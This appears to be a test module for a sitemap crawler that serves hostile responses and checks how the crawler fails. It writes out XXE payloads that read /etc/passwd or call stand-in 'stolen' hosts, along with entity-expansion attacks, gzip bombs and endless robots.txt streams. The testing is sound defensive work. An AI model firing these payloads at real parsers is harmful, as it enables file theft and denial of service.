"""Cases that attack with what they serve: documents, text, indexes, robots.txt and home pages."""

from __future__ import annotations

import random
import string
import zlib
from collections.abc import Callable, Iterable
from itertools import repeat

from hostile_server import HEAD, Call, Case, Made, answer, index, robots, urlset
from hostile_transport import CASES, MEGABYTE, SMALL_BOMB, begun, case, good

XML = b'<?xml version="1.0" encoding="UTF-8"?>\n'


Piece = bytes | tuple[bytes, int] | Callable[[], Iterable[bytes]]


def squeezed(*pieces: Piece) -> Made:
    """The pieces as a gzipped answer: bytes, bytes with how often, or what makes them."""
    return Made(lambda _: answer(gzipped(pieces)))


def gzipped(pieces: Iterable[Piece]) -> bytes:
    """The pieces compressed, without making what is repeated more than once."""
    engine = zlib.compressobj(1, zlib.DEFLATED, -15)
    out: list[bytes] = []
    checksum = size = 0
    for piece in pieces:
        data, times = piece if isinstance(piece, tuple) else (_whole(piece), 1)
        some = max(1, min(times, MEGABYTE // len(data)))  # a block of about a megabyte
        for block, count in ((data * some, times // some), (data * (times % some), 1)):
            out += [engine.compress(block) + engine.flush(zlib.Z_FULL_FLUSH)] * count
            size += len(block) * count
            for _ in range(count):
                checksum = zlib.crc32(block, checksum)
        assert size < 2**32
    trailer = checksum.to_bytes(4, "little") + size.to_bytes(4, "little")
    return b"".join((b"\x1f\x8b\x08\0\0\0\0\0\0\x03", *out, engine.flush(), trailer))


def _whole(piece: bytes | Callable[[], Iterable[bytes]]) -> bytes:
    return piece if isinstance(piece, bytes) else b"".join(piece())


def entry(inner: bytes) -> bytes:
    """A document of one entry."""
    return XML + b"<urlset><url>" + inner + b"</url></urlset>"


# -- what XML can do

LAUGHS = b"".join(b'<!ENTITY l%d "%b">\n' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 10))
case(
    "laughs",
    "failed",
    "xml_dtd_forbidden",
    answer(
        XML + b'<!DOCTYPE urlset [<!ENTITY l0 "lol">\n' + LAUGHS + b"]>"
        b"<urlset><url><loc>http://laughs.test/&l9;</loc></url></urlset>"
    ),
)
case(
    "quadratic",
    "failed",
    "xml_dtd_forbidden",
    answer(
        b'<!DOCTYPE urlset [<!ENTITY a "'
        + b"a" * 100_000
        + b'">]><urlset><url><loc>'
        + b"&a;" * 100_000
        + b"</loc></url></urlset>"
    ),
)
for name, declared in {
    "xxe-file": b'[<!ENTITY x SYSTEM "file:///etc/passwd">]',
    "xxe-http": b'[<!ENTITY x SYSTEM "http://xxe-http.test/stolen">]',
    "xxe-parameter": b'[<!ENTITY % x SYSTEM "http://xxe-parameter.test/stolen"> %x;]',
    "external-dtd": b'SYSTEM "http://external-dtd.test/stolen.dtd"',
    "public-dtd": b'PUBLIC "-//A//B" "http://public-dtd.test/stolen.dtd"',
    "attlist": b'[<!ATTLIST url a CDATA "' + b"a" * 100_000 + b'">]',
}.items():
    document = b"<!DOCTYPE urlset " + declared + b"><urlset><url><loc>http://a.test/&x;</loc></url></urlset>"
    case(name, "failed", "xml_dtd_forbidden", answer(document))
case(
    "dtd-utf16",
    "failed",
    "xml_dtd_forbidden",
    answer('<!DOCTYPE urlset [<!ENTITY x "y">]><urlset/>'.encode("utf-16")),
)
case(
    "dtd-far",
    "failed",
    "xml_dtd_forbidden",
    squeezed(
        b"<!--" + b"a" * 500_000 + b"-->",
        b'<!DOCTYPE urlset [<!ENTITY x "y">]>',
        good("dtd-far").removeprefix(XML),
    ),
)
case(
    "dtd-second",
    "partial",
    "xml_dtd_forbidden",
    answer(good("dtd-second") + b'<!DOCTYPE urlset [<!ENTITY x "y">]>' + good("dtd-second")),
    urls=3,
)
case(
    "xinclude",
    "ok",
    None,
    answer(
        begun("xinclude") + b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        b'href="file:///etc/passwd" parse="text"/></urlset>'
    ),
    urls=3,
)
case(
    "stylesheet",
    "ok",
    None,
    answer(good("stylesheet").replace(XML, XML + b'<?xml-stylesheet href="http://stylesheet.test/stolen"?>')),
    urls=3,
)

# -- what is large: 100 MB each, gzipped

LETTERS = b"a" * MEGABYTE
case("text-100mb", "failed", "body_too_large", squeezed(XML, b"<urlset><url><loc>", (LETTERS, 100)))
case(
    "attribute-100mb", "failed", "body_too_large", squeezed(XML, b'<urlset><url a="', (LETTERS, 100), b'"/>')
)
case("comment-100mb", "failed", "body_too_large", squeezed(XML, b"<urlset><!--", (LETTERS, 100)))
case("instruction-100mb", "failed", "body_too_large", squeezed(XML, b"<urlset><?a ", (LETTERS, 100)))
case("cdata-100mb", "failed", "body_too_large", squeezed(XML, b"<urlset><url><loc><![CDATA[", (LETTERS, 100)))
case("name-100mb", "failed", "body_too_large", squeezed(XML, b"<urlset><", (LETTERS, 100)))
case("declaration-100mb", "failed", "body_too_large", squeezed(b"<?xml ", (LETTERS, 100)))
case("blanks-100mb", "failed", "body_too_large", squeezed((b" \n" * 500_000, 100)))
case("less-than-100mb", "failed", "body_too_large", squeezed(XML, b"<urlset>", (b"<" * MEGABYTE, 100)))
case(
    "text-20mb",
    "failed",
    "xml_token_too_large",
    squeezed(XML, b"<urlset><url><loc>", (LETTERS, 20), b"</loc></url></urlset>"),
)
case(
    "attribute-20mb",
    "failed",
    "xml_token_too_large",
    squeezed(XML, b'<urlset><url a="', (LETTERS, 20), b'"/></urlset>'),
)
case(
    "comment-20mb",
    "ok",
    None,
    squeezed(begun("comment-20mb"), b"<!--", (LETTERS, 20), b"--></urlset>"),
    urls=3,
)
case(
    "attributes-million",
    "failed",
    "xml_token_too_large",
    squeezed(
        XML, b"<urlset><url ", lambda: (b'a%d="" ' % number for number in range(MEGABYTE)), b"/></urlset>"
    ),
)
case(
    "namespaces-million",
    "failed",
    "xml_token_too_large",
    squeezed(
        XML,
        b"<urlset><url ",
        lambda: (b'xmlns:a%d="b" ' % number for number in range(MEGABYTE)),
        b"/></urlset>",
    ),
)
case(
    "entities-million",
    "failed",
    "entries_refused",
    squeezed(entry(b"<loc>http://entities-million.test/" + b"&amp;" * 300_000 + b"</loc>")),
    urls=0,
)
case("deep", "failed", "xml_error", squeezed(XML, b"<urlset><url>", (b"<a>", MEGABYTE)))
case(
    "deep-closed",
    "failed",
    "xml_error",
    squeezed(XML, b"<urlset><url>", (b"<a>", 50_000), (b"</a>", 50_000), b"</url></urlset>"),
)
case("wide", "failed", "xml_token_too_large", squeezed(XML, b"<urlset>", (b"<a/>", 5 * MEGABYTE)), heavy=True)
case(
    "names-million",
    "ok",
    None,
    squeezed(
        begun("names-million"), lambda: (b"<n%d/>" % number for number in range(MEGABYTE)), b"</urlset>"
    ),
    urls=3,
    heavy=True,
)
case(
    "closers",
    "partial",
    "xml_token_too_large",
    squeezed(begun("closers"), (b"</a>", 5 * MEGABYTE)),
    urls=3,
    heavy=True,
)
case(
    "ampersands",
    "failed",
    "xml_error",
    squeezed(XML, b"<urlset><url><loc>http://ampersands.test/", (b"&" * MEGABYTE, 1)),
)
case(
    "extensions-million",
    "ok",
    None,
    squeezed(
        XML,
        b'<urlset xmlns:x="http://www.w3.org/1999/xhtml"><url><loc>http://extensions-million.test/</loc>',
        lambda: (
            b'<x:link rel="alternate" hreflang="x" href="http://a.test/%d"/>' % number
            for number in range(300_000)
        ),
        b"</url></urlset>",
    ),
    urls=1,
    heavy=True,
)


def many_urls(host: str, number: int) -> Iterable[bytes]:
    """Entries as short as they may be."""
    return (b"<url><loc>http://%b/%d</loc></url>" % (host.encode(), each) for each in range(number))


case(
    "locs-ten-million",
    "partial",
    "body_too_large",
    squeezed(XML, b"<urlset>", lambda: many_urls("locs-ten-million.test", 1_500_000)),
    heavy=True,
)
case(
    "locs-same",
    "partial",
    "too_many_urls",
    squeezed(XML, b"<urlset>", (b"<url><loc>http://a.b/</loc></url>", 1_200_000), b"</urlset>"),
    urls=1,
    heavy=True,
)
case(
    "locs-empty",
    "failed",
    "entries_refused",
    squeezed(XML, b"<urlset>", (b"<url><loc/></url>", 1_500_000), b"</urlset>"),
    heavy=True,
)
case(
    "lines-ten-million",
    "partial",
    "too_many_urls",
    squeezed(lambda: (b"http://lines-ten-million.test/%d\n" % number for number in range(1_200_000))),
    heavy=True,
)
case("line-100mb", "failed", "body_too_large", squeezed(b"http://a.test/", (LETTERS, 100)))
case(
    "lines-of-nothing",
    "partial",
    "body_too_large",
    squeezed(b"http://a.test/\n", (b"#\n" * 500_000, 60)),
    heavy=True,
)

# -- what is written badly

case("says-utf16", "ok", None, answer(good("says-utf16").replace(b"UTF-8", b"UTF-16")), urls=3)
case("says-ebcdic", "ok", None, answer(good("says-ebcdic").replace(b"UTF-8", b"cp037")), urls=3)
case("says-rot13", "ok", None, answer(good("says-rot13").replace(b"UTF-8", b"rot13")), urls=3)
case("says-idna", "ok", None, answer(good("says-idna").replace(b"UTF-8", b"idna")), urls=3)
case("says-utf7", "ok", None, answer(good("says-utf7").replace(b"UTF-8", b"utf-7")), urls=3)
case("says-zlib", "ok", None, answer(good("says-zlib").replace(b"UTF-8", b"zlib_codec")), urls=3)
case("utf16-odd", "ok", None, answer(good("utf16-odd").decode().encode("utf-16")[:-1]), urls=3)
case("not-utf8", "ok", None, answer(good("not-utf8").replace(b"page-1", b"caf\xe9")), urls=3)
case("nul", "partial", "entries_refused", answer(good("nul").replace(b"page-1", b"pa\0ge")), urls=2)
case(
    "nul-reference",
    "partial",
    "entries_refused",
    answer(good("nul-reference").replace(b"page-1", b"&#0;")),
    urls=2,
)
case(
    "surrogate",
    "partial",
    "entries_refused",
    answer(good("surrogate").replace(b"page-1", b"&#xD800;&#xDFFF;")),
    urls=2,
)
case("surrogate-raw", "ok", None, answer(good("surrogate-raw").replace(b"page-1", b"\xed\xa0\x80")), urls=3)
case(
    "terminal",
    "ok",
    None,
    answer(good("terminal").replace(b"page-1", "\N{RIGHT-TO-LEFT OVERRIDE}lmx".encode())),
    urls=3,
)
case(
    "url-1mb",
    "partial",
    "entries_refused",
    squeezed(begun("url-1mb"), b"<url><loc>http://url-1mb.test/", LETTERS, b"</loc></url></urlset>"),
    urls=3,
)
case(
    "noise-gzip", "failed", "body_truncated", answer(b"\x1f\x8b\x08\0" + random.Random(1).randbytes(100_000))
)
case("noise-text", "failed", "not_a_sitemap", answer(random.Random(2).randbytes(100_000)))
case("zip", "failed", "not_a_sitemap", answer(b"PK\x03\x04" + random.Random(3).randbytes(100_000)))
case("zeros", "failed", "not_a_sitemap", answer(bytes(100_000)))
case("empty", "failed", "not_a_sitemap", answer(b""))
case("html", "failed", "not_a_sitemap", answer(b"<!DOCTYPE html><html><body>Nothing here</body></html>"))
case("json", "failed", "not_a_sitemap", answer(b'{"urls": ["http://json.test/"]}'))
case(
    "dates",
    "ok",
    None,
    squeezed(
        XML,
        b"<urlset>",
        lambda: (
            b"<url><loc>http://dates.test/%d</loc><lastmod>%b</lastmod></url>" % (number, b"9" * 1000)
            for number in range(2000)
        ),
        b"</urlset>",
    ),
    urls=2000,
)
case(
    "priorities",
    "ok",
    None,
    answer(good("priorities").replace(b"</loc>", b"</loc><priority>1e400</priority>")),
    urls=3,
)

# -- what never ends: other files


async def growing(call: Call) -> None:
    """An index of two more, for ever."""
    base = f"http://{call.host}{call.path.removesuffix('.xml')}"
    await call.send(answer(index(f"{base}-a.xml", f"{base}-b.xml")))


async def other_every_time(call: Call) -> None:
    """A page for whatever is asked, another one each time."""
    noise = "".join(random.Random(call.path).choices(string.ascii_letters, k=1000))
    await call.send(answer(f"<!DOCTYPE html><html><body>{noise}</body></html>".encode()))


def names(host: str, number: int) -> Iterable[str]:
    """The names of many files."""
    return (f"http://{host}/{each}.xml" for each in range(number))


case("index-itself", "partial", "no_urls", answer(index("http://index-itself.test/sitemap.xml")), urls=0)
case(
    "index-circle",
    "partial",
    "no_urls",
    answer(index("http://index-circle.test/b.xml")),
    b=answer(index("http://index-circle.test/sitemap.xml")),
    urls=0,
)
case("index-grows", "partial", "depth_exceeded", robots=robots("index-grows.test"), every=growing, urls=0)
case(
    "index-wide",
    "partial",
    "budget_exhausted",
    squeezed(lambda: [index(*names("index-wide.test", 60_000))]),
    urls=0,
    heavy=True,
)
case(
    "index-strangers",
    "partial",
    "http_404",
    answer(index(*(f"http://stranger-{number}.test/" for number in range(50)))),
    urls=0,
)
case(
    "soft-404", "failed", "robots_is_html", every=answer(b"<!DOCTYPE html><html><body>Welcome</body></html>")
)
case("soft-404-varies", "failed", "robots_is_html", every=other_every_time)
case(
    "soft-404-named",
    "failed",
    "not_a_sitemap",
    robots=robots("soft-404-named.test"),
    every=answer(b"<!DOCTYPE html><html><body>Welcome</body></html>"),
)

# -- robots.txt and the home page


async def endless_robots(call: Call) -> None:
    lines = b"User-agent: *\nSitemap: http://robots-endless.test/sitemap.xml\n"
    await call.stream(HEAD + b"\r\n" + lines, repeat(b"Disallow: /a\n" * 1000))


def rules(*lines: bytes) -> bytes:
    """A robots.txt for everyone."""
    return answer(b"User-agent: *\n" + b"\n".join(lines) + b"\n")


case(
    "robots-endless",
    "partial",
    "body_too_large",
    answer(good("robots-endless")),
    robots=endless_robots,
    urls=3,
)
case("robots-bomb", "failed", "entries_refused", robots=SMALL_BOMB)
case(
    "robots-agents",
    "empty",
    None,
    robots=answer(b"".join(b"User-agent: b%d\n" % number for number in range(25_000))),
)
case(
    "robots-stars",
    "empty",
    None,
    robots=rules(*(b"Disallow: /%d" % number + b"*a" * 30 + b"*b$" for number in range(5000))),
    home=answer(b'<a href="/' + b"a" * 1900 + b'/sitemap.xml">map</a>'),
)
case(
    "robots-line",
    "failed",
    "entries_refused",
    robots=answer(b"Sitemap: http://robots-line.test/" + b"a" * 400_000),
)
case(
    "robots-delay",
    "ok",
    None,
    answer(good("robots-delay")),
    robots=rules(b"Crawl-delay: 1e999", b"Sitemap: http://robots-delay.test/sitemap.xml"),
    urls=3,
)
case("robots-binary", "failed", "not_understood", robots=answer(random.Random(4).randbytes(100_000)))
case(
    "robots-html",
    "failed",
    "robots_is_html",
    robots=answer(b"<!DOCTYPE html><html>" + b"<p>Sitemap: x" * 10_000),
)
case("home-unclosed", "empty", None, robots=rules(), home=squeezed(b"<html>", (b'<a href="', 200_000)))
case(
    "home-links",
    "empty",
    None,
    robots=rules(),
    home=squeezed(lambda: (b'<a href="/sitemap-%d.xml">x</a>' % number for number in range(60_000))),
)
case("home-comments", "empty", None, robots=rules(), home=squeezed(b"<html>", (b"<!--<script", 180_000)))
case("home-bomb", "empty", None, robots=rules(), home=SMALL_BOMB)

assert len({each.name for each in CASES}) == len(CASES)

GOOD = [
    Case(f"good-{number}", "ok", None, {"/sitemap.xml": answer(urlset(f"good-{number}.test", size))}, size)
    for number, size in enumerate((1, 10, 100, 1000, 10_000))
]
CASES.extend(GOOD)
